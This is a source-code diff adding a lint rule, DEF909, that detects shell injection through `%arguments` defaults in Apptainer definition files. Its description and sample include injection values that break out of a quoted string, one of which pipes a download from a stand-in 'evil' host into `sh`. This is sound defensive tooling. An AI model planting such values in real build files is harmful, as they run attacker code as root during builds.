@@ -1,0 +1,64 @@
+// DEF909 argument-shell-injection: a `%arguments` default pasted into shell code that the shell
+// would read as more than a word (quotes, `$(...)`, backticks, `;` ...).
+import type { ArgumentEntry, Stage } from '../../../parse/model.js';
+import { describeCharacters, shellActiveCharacters } from '../../../parse/template.js';
+import { defineRule } from '../../define-rule.js';
+import { liveStages, sectionAt } from '../../vocab/sections.js';
+import { q } from '../../vocab/text.js';
+
+/** Sections whose body Apptainer runs (at build time, or at every container start for %environment). */
+const CODE_SECTIONS = new Set(['post', 'setup', 'runscript', 'test', 'startscript', 'environment', 'appinstall', 'apprun', 'apptest', 'appenv', 'appstart']);
+
+/** The `%arguments` line that sets the stage's default (the last one wins, as in Apptainer). */
+function defaultEntry(stage: Stage, name: string): ArgumentEntry | undefined {
+  let found: ArgumentEntry | undefined;
+  for (const section of stage.sections) {
+    if (section.name !== 'arguments') continue;
+    for (const entry of section.arguments ?? []) if (entry.key === name && !entry.problem) found = entry;
+  }
+  return found;
+}
+
+export const argumentShellInjection = defineRule({
+  meta: {
+    id: 'DEF909',
+    slug: 'argument-shell-injection',
+    group: 'templating',
+    defaultSeverity: 'error',
+    presets: ['recommended'],
+    summary: '`%arguments` default with shell-active characters, pasted into a script by `{{ NAME }}`.',
+    description: [
+      '`apptainer build` replaces `{{ NAME }}` with the value as raw text before any shell sees the script, so',
+      'quoting around the placeholder does not help: a default such as `x"; curl evil | sh; "` or `$(id)` ends the',
+      'string and runs a command — in `%post` as root at build time, in `%environment` at every container start.',
+      'A value used in script sections should be a plain word: letters, digits, spaces and `_ / . , : = + @ % ^ ~ -`.',
+      '(The same check guards recipe `arguments` in the generator.)',
+      '',
+      '**Fix:** use a plain value; pass anything else through the environment (`export` in `%environment`, read',
+      'as `"$VAR"`) rather than through templating.',
+    ].join('\n'),
+    bad: 'Bootstrap: docker\nFrom: alpine:3.19\n\n%arguments\n    TAG=x"; id; "\n\n%post\n    echo "{{ TAG }}"\n',
+    good: 'Bootstrap: docker\nFrom: alpine:3.19\n\n%arguments\n    TAG=3.19\n\n%post\n    echo "{{ TAG }}"\n',
+    source: 'AP-ARGS `reader.go` (plain text substitution); deffile-format.md §13',
+  },
+  check(ctx) {
+    for (const stage of liveStages(ctx.file)) {
+      const reported = new Set<string>();
+      for (const placeholder of stage.placeholders) {
+        if (placeholder.skipped || reported.has(placeholder.name)) continue;
+        const section = sectionAt(stage, placeholder.range.start.offset);
+        if (!section || !CODE_SECTIONS.has(section.name)) continue;
+        const entry = defaultEntry(stage, placeholder.name);
+        const active = entry ? shellActiveCharacters(entry.value) : [];
+        if (!entry || active.length === 0) continue;
+        reported.add(placeholder.name);
+        ctx.report({
+          message:
+            `The default of ${q(placeholder.name)} contains ${describeCharacters(active)} and {{ ${placeholder.name} }} pastes it raw into ` +
+            `%${section.name}${section.app ? ` ${section.app}` : ''} (line ${placeholder.range.start.line}): the shell would run it as code`,
+          range: entry.range,
+        });
+      }
+    }
+  },
+});
